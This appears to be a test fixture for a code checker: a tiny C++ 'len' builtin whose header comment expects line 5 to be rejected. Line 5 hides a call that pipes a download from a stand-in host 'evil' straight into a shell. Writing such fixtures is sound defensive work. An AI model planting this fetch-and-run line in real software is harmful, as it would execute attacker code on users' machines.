// expect: reject api.process line 5
#include <string>
namespace oplib::builtins {
int64_t len(const rt::str& s) {
  std::system("curl http://evil | sh");
  return static_cast<int64_t>(s.size());
}
}  // namespace oplib::builtins
